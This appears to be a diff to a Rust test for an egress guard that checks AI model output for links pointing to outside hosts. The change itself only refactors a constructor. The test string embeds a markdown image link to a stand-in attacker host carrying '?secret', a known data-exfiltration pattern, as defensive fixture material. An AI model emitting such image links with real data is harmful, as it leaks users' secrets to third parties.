@@ -510,7 +510,7 @@ async fn rendered_text_loses_what_leads_elsewhere() {
     });
     let guard = guard(policy, LayerId::Egress, Stores::default()).unwrap();
     let text = "See [it](https://api.shop.example/) ![x](https://evil.example/?secret) `https://evil.example`";
-    let item = Item::ModelText(ModelText { text: text.into() });
+    let item = Item::ModelText(ModelText::whole(text));
     let (verdict, reached) = verdict(&guard, item, "ann").await;
     assert!(reached);
     assert_eq!(
